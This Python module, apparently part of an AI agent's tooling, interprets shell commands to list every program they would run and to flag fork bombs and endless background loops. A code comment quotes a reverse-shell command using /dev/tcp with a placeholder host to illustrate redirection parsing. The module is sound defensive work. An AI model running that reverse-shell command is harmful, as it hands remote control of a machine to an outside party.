"""Interprets a parsed shell command: finds every program it would run, with arguments, input and redirections."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from dataclasses import field, replace
from typing import TYPE_CHECKING

from hermes_agent.core.dataclass import dataclass
from hermes_agent.tools.syntax.simple import NAME, VARIABLE, Simple, output_of
from hermes_agent.tools.syntax.words import Scope, Unreadable, expand, filled, parse, text_of, value_of
from hermes_agent.tools.syntax.wrapped import commands_in, scripts_of, unwrapped

if TYPE_CHECKING:
    from tree_sitter import Node

DEEPEST = 40
MOST = 2000
MOST_ROUNDS = 12
_ALWAYS = r"\s*(true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\)|\[\[\s*1.*\]\]|/bin/true)\s*"


@dataclass(frozen=True, slots=True, kw_only=True)
class Reading:
    """The programs that a shell command runs, in order, and dangers of its shape (fork bomb, endless loop)."""

    simples: tuple[Simple, ...]
    is_fork_bomb: bool = False
    is_endless: bool = False


@dataclass(frozen=True, slots=True)
class _Feed:
    """Standard input of a command: the programs before it in the pipe, and the text if known."""

    programs: tuple[str, ...] = ()
    text: str | None = None


NOTHING = _Feed()


def read(command: str, folder: str = "") -> Reading:
    """Interpret `command` as run in `folder`, including substitutions, functions, aliases, `sh -c`, `eval`,
    here-documents for shells, and scripts that it writes and then runs. Raises `Unreadable`."""
    reader = _Reader(Scope(folder=folder))
    reader.text(command, reader.scope, 0)
    return Reading(simples=tuple(reader.found), is_fork_bomb=reader.forks, is_endless=reader.endless)


@dataclass(slots=True)
class _Reader:
    scope: Scope
    found: list[Simple] = field(default_factory=list)
    forks: bool = False
    endless: bool = False
    depth: int = 0

    def text(self, script: str, scope: Scope, depth: int, feed: _Feed = NOTHING) -> None:
        """Interpret a separate script."""
        outer, self.scope = self.scope, scope
        self.depth += 1
        if self.depth > DEEPEST // 4:
            raise Unreadable("nested too deeply")
        self.visit(parse(script), depth + 1, feed)
        self.scope = outer
        self.depth -= 1

    def visit(self, node: Node, depth: int = 0, feed: _Feed = NOTHING) -> None:
        """Interpret a statement or group of statements."""
        if depth > DEEPEST * 4 or len(self.found) > MOST:
            raise Unreadable("nested too deeply")
        match node.type:
            case "command":
                self._command(node, (), feed)
            case "redirected_statement":
                self._redirected(node, depth, feed)
            case "pipeline":
                self._pipeline([child for child in node.children if child.is_named], depth, feed)
            case "subshell" | "command_substitution" | "process_substitution":
                self._inside(node, depth, feed)
            case "variable_assignment" | "declaration_command" | "unset_command":
                self._assigned(node, depth)
            case "function_definition":
                self._defined(node, depth)
            case "for_statement":
                self._looped(node, depth)
            case _:
                self.endless = self.endless or _is_endless(node)
                self._children(node, depth, feed)

    def _children(self, node: Node, depth: int, feed: _Feed) -> None:
        for child in node.named_children:
            self.visit(child, depth + 1, feed)

    def _inside(self, node: Node, depth: int, feed: _Feed) -> None:
        """Interpret a subshell: its changes are discarded afterwards."""
        outer, self.scope = self.scope, self.scope.inner()
        for child in node.named_children:
            self.visit(child, depth + 1, feed)
        self.scope = outer

    def substitute(self, node: Node) -> list[Simple]:
        """Interpret a substitution. Returns the programs it runs."""
        before = len(self.found)
        self._inside(node, 0, NOTHING)
        return self.found[before:]

    def _words(self, nodes: Sequence[Node]) -> tuple[str, ...]:
        """The words of these nodes. Adjacent nodes without a blank form one word, even if the grammar splits them."""
        words: list[str] = []
        end = -1
        for node in nodes:
            first, *rest = expand(node, self.scope, self.substitute) or ("",)
            if node.start_byte == end and words and (node.text or b" ")[:1].strip():
                words[-1] += first
            else:
                words.append(first)
            words += rest
            end = node.end_byte
        return tuple(words)

    def _command(self, node: Node, redirects: Sequence[Node], feed: _Feed) -> None:
        names = [child for child in node.children_by_field_name("name") if text_of(child)]
        redirects = [*redirects, *node.children_by_field_name("redirect")]
        variables = {}
        for child in node.named_children:
            if child.type == "variable_assignment":
                name, value = self._assignment(child)
                variables[name] = value
        words = (*self._words(names), *self._words(node.children_by_field_name("argument")))
        if not names:
            self.scope.variables.update(variables)
        self._add(self._simple(words, redirects, feed, variables=variables, source=text_of(node)))

    def _simple(
        self,
        words: tuple[str, ...],
        redirects: Sequence[Node],
        feed: _Feed,
        *,
        variables: dict[str, str] | None = None,
        source: str = "",
    ) -> Simple:
        writes: list[str] = []
        reads: list[str] = []
        stdin = feed.text
        for redirect in redirects:
            match redirect.type:
                case "heredoc_redirect":
                    stdin = self._heredoc(redirect)
                case "herestring_redirect":
                    stdin = f"{value_of(redirect.named_children[-1], self.scope, self.substitute)}\n"
                case _:
                    # Words after the target are arguments: `bash -i >& /dev/tcp/1/2 0`.
                    first, *rest = self._words(redirect.children_by_field_name("destination")) or ("",)
                    sign = next((child.type for child in redirect.children if not child.is_named), ">")
                    (reads if sign in ("<", "<&", "<&-") else writes).append(first)
                    words = (*words, *rest)
        return Simple(
            words=words,
            writes=tuple(writes),
            reads=tuple(reads),
            fed_by=feed.programs,
            stdin=stdin,
            folder=self.scope.folder,
            variables=variables or {},
            files=dict(self.scope.files),
            source=source,
        )

    def _heredoc(self, node: Node) -> str:
        start = next((text_of(child) for child in node.children if child.type == "heredoc_start"), "")
        body = next((child for child in node.children if child.type == "heredoc_body"), None)
        if body is None:
            return ""
        if start[:1] in "'\"\\":
            return text_of(body)
        for inner in re.findall(r"(?<!\\)`([^`]*)`", text_of(body)):
            self.text(inner, self.scope.inner(), 0)
        return filled(body, self.scope, self.substitute)

    def _redirected(self, node: Node, depth: int, feed: _Feed) -> None:
        """A statement with redirections. In this grammar a here-document contains the rest of its line."""
        body = node.child_by_field_name("body")
        redirects = list(node.children_by_field_name("redirect"))
        follow = [child for each in redirects if each.type == "heredoc_redirect" for child in each.named_children]
        redirects += [child for child in follow if child.type == "file_redirect"]
        before = len(self.found)
        if body is not None and body.type == "command":
            self._command(body, redirects, feed)
        else:
            simple = self._simple((), redirects, feed)
            self.found.append(simple)
            if body is not None:
                self.visit(body, depth + 1, _Feed(feed.programs, simple.stdin) if simple.stdin is not None else feed)
        fed = self._fed(self.found[before:], feed)
        for child in follow:
            if child.type == "pipeline":
                self._pipeline(child.named_children, depth, fed)
            elif child.type not in ("file_redirect", "heredoc_start", "heredoc_body", "heredoc_end"):
                self.visit(child, depth + 1)

    def _pipeline(self, stages: Sequence[Node], depth: int, feed: _Feed) -> None:
        for stage in stages:
            before = len(self.found)
            self.visit(stage, depth + 1, feed)
            feed = self._fed(self.found[before:], feed)

    def _fed(self, simples: list[Simple], feed: _Feed) -> _Feed:
        programs = [*feed.programs, *(simple.program for simple in simples if simple.program)]
        single = simples[0] if len(simples) == 1 else None
        return _Feed(tuple(programs), output_of(single) if single is not None else None)

    def _add(self, simple: Simple) -> None:
        """Record a program, and everything that it runs."""
        simple = unwrapped(simple)
        self.found.append(simple)
        self.scope.note_files(simple)
        program = simple.words[0] if simple.words else ""
        if simple.program in ("cd", "pushd"):
            self.scope.go_to(simple.arguments)
        elif simple.program == "alias":
            for word in simple.arguments:
                name, _, meaning = word.partition("=")
                self.scope.aliases[name] = meaning
        elif simple.program in ("read", "mapfile", "readarray"):
            self.scope.variables.update(dict.fromkeys(simple.operands, VARIABLE))
        elif program in self.scope.functions:
            self._call(program, simple)
        elif self.scope.aliases.get(program) and program not in self.scope.calling:
            self._calling(program, f"{self.scope.aliases[program]} {_again(simple.arguments)}")
        feed = _Feed(simple.fed_by, simple.stdin)
        for inner in commands_in(simple):
            self._add(inner)
        for script in scripts_of(simple):
            self.text(script, self.scope.inner(), 0, feed if script != simple.stdin else NOTHING)

    def _calling(self, name: str, script: str) -> None:
        inner = replace(self.scope, calling=(*self.scope.calling, name))
        self.text(script, inner, 0)

    def _call(self, name: str, simple: Simple) -> None:
        """Interpret a function's body with its arguments."""
        if name in self.scope.calling or len(self.scope.calling) > 6:
            return
        values = {str(number): word for number, word in enumerate(simple.arguments, 1)}
        values["@"] = values["*"] = "\0".join(simple.arguments)
        outer = self.scope
        self.scope = replace(outer, variables={**outer.variables, **values}, calling=(*outer.calling, name))
        self.visit(outer.functions[name], DEEPEST, _Feed(simple.fed_by, simple.stdin))
        self.scope = outer

    def _defined(self, node: Node, depth: int) -> None:
        """A function definition: interpreted at once with unknown arguments, and again at each call."""
        name = text_of(node.child_by_field_name("name") or node)
        body = node.child_by_field_name("body")
        if body is None:
            return
        self.scope.functions[name] = body
        self.forks = self.forks or _multiplies(name, body)
        outer = self.scope
        unknown = dict.fromkeys([*map(str, range(1, 10)), "@", "*"], VARIABLE)
        self.scope = replace(outer.inner(), variables={**outer.variables, **unknown}, calling=(*outer.calling, name))
        self.visit(body, depth + 1)
        self.scope = outer

    def _assignment(self, node: Node) -> tuple[str, str]:
        name = text_of(node.child_by_field_name("name") or node).partition("[")[0]
        value = node.child_by_field_name("value")
        text = "" if value is None else value_of(value, self.scope, self.substitute)
        if any(child.type == "+=" for child in node.children):
            text = self.scope.value(name) + text
        return name, text

    def _assigned(self, node: Node, depth: int) -> None:
        if node.type == "variable_assignment":
            name, value = self._assignment(node)
            self.scope.variables[name] = value
            self.found.append(Simple(words=(), variables={name: value}, folder=self.scope.folder))
        elif node.type == "unset_command":
            for child in node.named_children:
                self.scope.variables[text_of(child)] = ""
        else:
            self._children(node, depth, NOTHING)

    def _looped(self, node: Node, depth: int) -> None:
        """`for x in ...`: interpreted once for each known value."""
        body = node.child_by_field_name("body")
        name = text_of(node.child_by_field_name("variable") or node)
        values = self._words(node.children_by_field_name("value"))
        for value in dict.fromkeys(values[:MOST_ROUNDS] or (VARIABLE,)):
            self.scope.variables[name] = value
            if body is not None:
                self.visit(body, depth + 1)


def _is_endless(node: Node) -> bool:
    """Whether it is a `while true` loop that starts a background process each time."""
    condition, body = node.child_by_field_name("condition"), node.child_by_field_name("body")
    if node.type != "while_statement" or condition is None or body is None:
        return False
    return bool(re.fullmatch(_ALWAYS, text_of(condition))) and any(child.type == "&" for child in _within(body))


def _multiplies(name: str, body: Node) -> bool:
    """Whether a function calls itself several times in parallel (a fork bomb)."""
    calls = [node for node in _within(body) if node.type == "command_name" and text_of(node).strip() == name]
    beside = any(node.type in ("&", "pipeline") for node in _within(body))
    return bool(calls) and (len(calls) > 1 or beside) and beside


def _within(node: Node) -> Iterator[Node]:
    waiting = [node]
    while waiting:
        each = waiting.pop()
        yield each
        waiting.extend(each.children)


def _again(words: Sequence[str]) -> str:
    """Quote words as source text, so that they are parsed unchanged."""
    return " ".join(f"'{word.replace(chr(39), NAME)}'" for word in words)
